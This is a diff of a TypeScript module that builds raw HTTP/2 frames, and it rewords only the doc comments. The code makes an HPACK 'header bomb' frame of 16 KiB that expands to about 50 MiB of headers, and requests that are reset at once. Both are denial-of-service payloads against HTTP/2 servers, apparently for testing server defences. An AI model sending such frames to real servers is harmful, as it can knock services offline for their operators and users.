@@ -1,4 +1,4 @@
-/** HTTP/2 frames as no well-meaning client would send them. */
+/** HTTP/2 frames that only attackers send. */
 
 const HEADERS = 1;
 const RST_STREAM = 3;
@@ -6,9 +6,9 @@ const SETTINGS = 4;
 const END_STREAM_AND_HEADERS = 0x05;
 const END_HEADERS = 0x04;
 const CANCEL = 8;
-/** What one frame may hold unless the other side says otherwise. */
+/** The default maximum payload of a frame. */
 const FRAME_MAX_BYTES = 16_384;
-/** The first entry of the table that a client fills itself. */
+/** The first index of the dynamic HPACK table. */
 const OWN_ENTRY = 62;
 
 export const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, { stream: 0 })]);
@@ -25,7 +25,7 @@ function frame(
   return Buffer.concat([head, payload]);
 }
 
-/** A whole number after a prefix of seven bits. */
+/** An HPACK integer with a prefix of seven bits. */
 function hpackLength(length: number): Buffer {
   const bytes: number[] = [];
   if (length < 127) return Buffer.from([length]);
@@ -45,7 +45,7 @@ const GET_OVER_HTTP = Buffer.from([0x82, 0x86]);
 const WITHOUT_INDEX = 0x00;
 const WITH_INDEX = 0x40;
 
-/** A frame of 16 KiB whose header list is of some fifty MiB: one long header, kept and named again and again. */
+/** A 16 KiB frame that expands to about 50 MiB of headers: it indexes one long header and repeats it. */
 export function headerBomb(stream: number): Buffer {
   const start = Buffer.concat([
     GET_OVER_HTTP,
@@ -57,7 +57,7 @@ export function headerBomb(stream: number): Buffer {
   return frame(HEADERS, { stream, flags: END_STREAM_AND_HEADERS, payload: Buffer.concat([start, again]) });
 }
 
-/** A request that is taken back at once. */
+/** A request that the client resets at once. */
 export function resetRequest(stream: number, headers: { readonly [name: string]: string }): Buffer {
   const named = Object.entries({ ':authority': 'x', ...headers });
   const payload = Buffer.concat([GET_OVER_HTTP, ...named.map(([name, value]) => literal(WITHOUT_INDEX, name, value))]);
